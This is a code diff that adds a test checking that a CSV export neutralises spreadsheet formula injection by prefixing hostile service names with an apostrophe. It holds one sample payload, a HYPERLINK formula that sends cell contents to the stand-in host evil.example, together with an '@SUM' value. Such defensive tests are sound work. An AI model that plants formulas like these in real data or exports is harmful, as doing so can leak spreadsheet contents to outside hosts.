@@ -54,6 +54,25 @@ describe('npm run export', () => {
     assert.match(out.join(''), /no scores\.csv \(run npm run replay/);
   });
 
+  it('writes service names a spreadsheet would run as formulas with a leading apostrophe', async () => {
+    const hostile = tempDir('export-formula');
+    try {
+      const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+      const runPath = join(hostile, 'run');
+      writeRun(runPath, { name: 'formula', intervalSeconds: 2, metrics: ['request_bytes'], services: ['front-end', FORMULA, '@SUM(1+1)', 'user-db'] }, [
+        { t: 1002, dt: 2, edges: [{ src: 'front-end', dst: FORMULA, request_bytes: 5 }, { src: '@SUM(1+1)', dst: 'user-db', request_bytes: 7 }] },
+      ], []);
+      assert.equal(await exportMain([runPath], () => {}), 0);
+      const rows = readCsv(join(runPath, 'export', 'traffic.csv'));
+      assert.deepEqual(rows.slice(1), [
+        ['1002', 'front-end', `'${FORMULA}`, 'request_bytes', '5'],
+        ['1002', "'@SUM(1+1)", 'user-db', 'request_bytes', '7'],
+      ]);
+    } finally {
+      rmSync(hostile, { recursive: true, force: true });
+    }
+  });
+
   it('lists every interval with its gap and attack flags', async () => {
     await exportMain([runDir], () => {});
     const { snapshots, events } = readFixtureRun(runDir);
